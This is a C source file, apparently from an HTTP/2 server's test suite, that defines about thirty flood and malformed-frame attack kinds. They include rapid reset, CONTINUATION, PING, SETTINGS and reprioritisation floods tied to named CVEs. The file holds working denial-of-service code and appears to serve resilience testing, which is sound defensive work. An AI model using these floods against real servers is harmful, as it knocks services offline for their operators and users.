/*
 * kinds_frames.c: floods of frames: each costs the sender less than the server; and bytes that are not HTTP/2.
 */
#include "store/base/bytes.h"
#include "tests/attack/attack.h"

#include <stdlib.h>
#include <string.h>

#define NO_FIELDS slice_of(NULL, 0)

/* A stream whose request has not ended, for frames that need one. */
static void begin_open_stream(struct peer *peer)
{
    peer_greet(peer);
    (void)peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, NO_FIELDS);
}

static void more_rapid_reset(struct peer *peer)
{
    uint32_t stream =
        peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS | FLAG_END_STREAM, NO_FIELDS);

    peer_reset(peer, stream);
}

/* The request is complete and running when it is cancelled. */
static void more_reset_captures(struct peer *peer)
{
    struct attack *attack = peer->attack;
    uint32_t stream = peer->next_stream;

    if (attack->payload.size == 0) {
        attack->payload = payload_capture(SLICE("{}"));
    }
    peer_call(peer, TARGET_CAPTURE, slice_of(attack->payload.data, attack->payload.size));
    peer_reset(peer, stream);
}

static void more_overflow(struct peer *peer)
{
    uint32_t stream = peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, NO_FIELDS);

    peer_window(peer, stream, 0x7fffffff);
}

static void more_half_closed(struct peer *peer)
{
    uint32_t stream =
        peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS | FLAG_END_STREAM, NO_FIELDS);

    peer_frame(peer, FRAME_DATA, 0, stream, SLICE("x"));
}

static void more_self_dependency(struct peer *peer)
{
    uint32_t stream = peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, NO_FIELDS);
    uint8_t payload[5] = {0};

    bytes_put_be32(payload, stream);
    peer_frame(peer, FRAME_PRIORITY, 0, stream, slice_of(payload, sizeof(payload)));
}

static void more_wrong_length(struct peer *peer)
{
    static const uint8_t length_5[] = "\0\x0e"
                                      "content-length\1"
                                      "5";
    uint32_t stream = peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS,
                                   slice_of(length_5, sizeof(length_5) - 1));

    peer_frame(peer, FRAME_DATA, FLAG_END_STREAM, stream, SLICE("123456"));
}

static void more_bad_field(struct peer *peer)
{
    static const uint8_t upper[] = "\0\7X-Upper\1a";

    (void)peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, slice_of(upper, sizeof(upper) - 1));
}

static void more_empty_name(struct peer *peer)
{
    (void)peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, SLICE("\0\0\1a\0\0\1b"));
}

static void more_early_answer(struct peer *peer)
{
    (void)peer_request(peer, TARGET_NOWHERE, FLAG_END_HEADERS, NO_FIELDS);
}

static void begin_continuation(struct peer *peer)
{
    peer_greet(peer);
    peer_frame(peer, FRAME_HEADERS, 0, 1, SLICE("\x83\x86"));
}

static void more_continuation(struct peer *peer)
{
    static const uint8_t field[] = "\0\1x\1y";
    struct bytes block = {0};

    for (int i = 0; i < 200; i++) {
        bytes_add(&block, slice_of(field, sizeof(field) - 1));
    }
    peer_frame(peer, FRAME_CONTINUATION, 0, 1, slice_of(block.data, block.size));
    free(block.data);
}

static void more_empty_continuation(struct peer *peer)
{
    peer_frame(peer, FRAME_CONTINUATION, 0, 1, NO_FIELDS);
}

static void more_settings(struct peer *peer)
{
    peer_frame(peer, FRAME_SETTINGS, 0, 0, NO_FIELDS);
}

/* 2,700 entries a frame. */
static void more_settings_entries(struct peer *peer)
{
    uint8_t entries[2700 * 6] = {0};

    for (size_t i = 0; i < sizeof(entries); i += 6) {
        entries[i + 1] = SETTING_INITIAL_WINDOW_SIZE;
        entries[i + 4] = (uint8_t)(i / 6);
    }
    peer_frame(peer, FRAME_SETTINGS, 0, 0, slice_of(entries, sizeof(entries)));
}

static void begin_streams(struct peer *peer)
{
    peer_greet(peer);
    for (int i = 0; i < 120; i++) {
        (void)peer_request(peer, TARGET_REFLECTION, FLAG_END_HEADERS, NO_FIELDS);
    }
}

/* The windows of all open streams, up and down. */
static void more_settings_windows(struct peer *peer)
{
    peer_setting(peer, SETTING_INITIAL_WINDOW_SIZE, peer->step++ % 2 == 0 ? 0 : 0x7fffffff);
}

static void more_table_sizes(struct peer *peer)
{
    peer_setting(peer, SETTING_HEADER_TABLE_SIZE, peer->step++ % 2 == 0 ? 0 : 65536);
}

static void more_ping(struct peer *peer)
{
    peer_frame(peer, FRAME_PING, 0, 0, SLICE("floodflo"));
}

static void more_ping_ack(struct peer *peer)
{
    peer_frame(peer, FRAME_PING, FLAG_ACK, 0, SLICE("floodflo"));
}

static void more_empty_data(struct peer *peer)
{
    peer_frame(peer, FRAME_DATA, 0, 1, NO_FIELDS);
}

static void more_padded_data(struct peer *peer)
{
    peer_frame(peer, FRAME_DATA, FLAG_PADDED, 1, SLICE("\0"));
}

static void more_tiny_data(struct peer *peer)
{
    peer_frame(peer, FRAME_DATA, 0, 1, SLICE("x"));
}

static void begin_tiny_data(struct peer *peer)
{
    uint32_t stream = 0;

    peer_greet(peer);
    stream = peer_request(peer, TARGET_EXAMPLES, FLAG_END_HEADERS, NO_FIELDS);
    peer_frame(peer, FRAME_DATA, 0, stream, SLICE("\0\0\xff\0\0"));
}

static void more_priority(struct peer *peer)
{
    peer_frame(peer, FRAME_PRIORITY, 0, 1, SLICE("\0\0\0\0\x10"));
}

/* Ever other parents forever other streams (CVE-2019-9513). */
static void more_reprioritise(struct peer *peer)
{
    uint8_t payload[5] = {0, 0, 0, 0, 16};

    peer->step++;
    bytes_put_be32(payload, (uint32_t)(peer->step % 97 * 2 + 1));
    peer_frame(peer, FRAME_PRIORITY, 0, (uint32_t)(peer->step % 89 * 2 + 201),
               slice_of(payload, sizeof(payload)));
}

static void more_unknown(struct peer *peer)
{
    peer_frame(peer, FRAME_UNKNOWN, 0, 0, SLICE("unknown"));
}

static void more_window(struct peer *peer)
{
    peer_window(peer, 1, 1);
}

/* Streams that are over: a frame for one is an error (RFC 9113, 5.1). */
static void begin_closed_stream(struct peer *peer)
{
    peer_greet(peer);
    (void)peer_request(peer, TARGET_NOWHERE, FLAG_END_HEADERS | FLAG_END_STREAM, NO_FIELDS);
    (void)peer_request(peer, TARGET_NOWHERE, FLAG_END_HEADERS | FLAG_END_STREAM, NO_FIELDS);
}

static void more_closed_headers(struct peer *peer)
{
    peer_frame(peer, FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, 1, SLICE("\x82"));
}

static void more_closed_data(struct peer *peer)
{
    peer_frame(peer, FRAME_DATA, 0, 1, SLICE("x"));
}

static void more_closed_reset(struct peer *peer)
{
    peer_reset(peer, 1);
}

/* Writes as many useless bytes as the socket accepts. */
static void more_pump(struct peer *peer)
{
    static const uint8_t zeros[FRAME_BYTES_MAX];

    peer_frame(peer, FRAME_DATA, 0, 1, slice_of(zeros, sizeof(zeros)));
}

static void more_garbage(struct peer *peer)
{
    uint8_t bytes[512];

    for (size_t i = 0; i < sizeof(bytes); i++) {
        peer->step = peer->step * 6364136223846793005u + 1442695040888963407u;
        bytes[i] = (uint8_t)(peer->step >> 33);
    }
    peer_write(peer, slice_of(bytes, sizeof(bytes)));
}

static void more_http1(struct peer *peer)
{
    peer_write(peer, SLICE("GET / HTTP/1.1\r\nhost: a\r\nupgrade: h2c\r\n\r\n"));
}

static void more_tls(struct peer *peer)
{
    peer_write(peer, SLICE("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
                           "client hello"));
}

static void more_oversized(struct peer *peer)
{
    struct bytes large = {0};

    for (size_t i = 0; i < 5000; i++) {
        bytes_add(&large, SLICE("too much"));
    }
    peer_frame(peer, FRAME_DATA, 0, 1, slice_of(large.data, large.size));
    free(large.data);
}

const struct attack_kind kinds_of_frames[] = {
    {"rapid-reset", "a request and its reset, again and again (CVE-2023-44487)", peer_greet,
     more_rapid_reset, 0, 4, 0},
    {"reset-captures", "the same with whole captures, which are at work by then", peer_greet,
     more_reset_captures, 0, 4, 0},
    {"provoked-overflow", "windows that overflow, so that the server resets (CVE-2025-8671)",
     peer_greet, more_overflow, 0, 4, 0},
    {"provoked-half-closed", "DATA after the request's end", peer_greet, more_half_closed, 0, 4, 0},
    {"provoked-priority", "streams that depend on themselves", peer_greet, more_self_dependency, 0,
     4, 0},
    {"provoked-length", "bodies of another length than they say", peer_greet, more_wrong_length, 0,
     4, 0},
    {"provoked-fields", "names in upper case", peer_greet, more_bad_field, 0, 4, 0},
    {"empty-names", "names of no letter (CVE-2019-9516)", peer_greet, more_empty_name, 0, 4, 0},
    {"early-answers", "requests that are answered before they end", peer_greet, more_early_answer,
     0, 4, 0},
    {"continuation", "a header block that does not end (CVE-2024-27316)", begin_continuation,
     more_continuation, 0, 4, 0},
    {"continuation-empty", "the same without a byte in it", begin_continuation,
     more_empty_continuation, 0, 4, 0},
    {"settings", "SETTINGS (CVE-2019-9515)", peer_greet, more_settings, 0, 4, 0},
    {"settings-entries", "SETTINGS of 2,700 entries", peer_greet, more_settings_entries, 0, 4, 0},
    {"settings-windows", "SETTINGS that move the windows of 120 streams", begin_streams,
     more_settings_windows, 0, 4, 0},
    {"table-sizes", "SETTINGS that move HPACK's table up and down", peer_greet, more_table_sizes, 0,
     4, 0},
    {"ping", "PING (CVE-2019-9512)", peer_greet, more_ping, 0, 4, 0},
    {"ping-acks", "answers to pings that were not sent", peer_greet, more_ping_ack, 0, 4, 0},
    {"empty-data", "DATA without a byte (CVE-2019-9518)", begin_open_stream, more_empty_data, 0, 4,
     0},
    {"padded-data", "DATA of only padding", begin_open_stream, more_padded_data, 0, 4, 0},
    {"tiny-data", "a message in DATA of one byte each", begin_tiny_data, more_tiny_data, 0, 4, 0},
    {"priority", "PRIORITY", begin_open_stream, more_priority, 0, 4, 0},
    {"reprioritise", "ever other trees of priorities (CVE-2019-9513)", begin_open_stream,
     more_reprioritise, 0, 4, 0},
    {"unknown", "frames of an unknown type", peer_greet, more_unknown, 0, 4, 0},
    {"window-updates", "WINDOW_UPDATE of one byte", begin_open_stream, more_window, 0, 4, 0},
    {"closed-headers", "HEADERS of streams that are over", begin_closed_stream, more_closed_headers,
     0, 4, 0},
    {"closed-data", "DATA of streams that are over", begin_closed_stream, more_closed_data, 0, 4,
     0},
    {"closed-resets", "RST_STREAM of streams that are over", begin_closed_stream, more_closed_reset,
     0, 4, 0},
    {"pump", "full DATA frames of a stream that is over, at full speed", begin_closed_stream,
     more_pump, 0, 4, 0},
    {"garbage", "random bytes after the preface", peer_greet, more_garbage, 0, 4, 0},
    {"http1", "HTTP/1.1", NULL, more_http1, 0, 4, 0},
    {"tls", "a TLS hello", NULL, more_tls, 0, 4, 0},
    {"oversized", "a frame above the limit", peer_greet, more_oversized, 0, 4, 0},
    {NULL, NULL, NULL, NULL, 0, 0, 0},
};
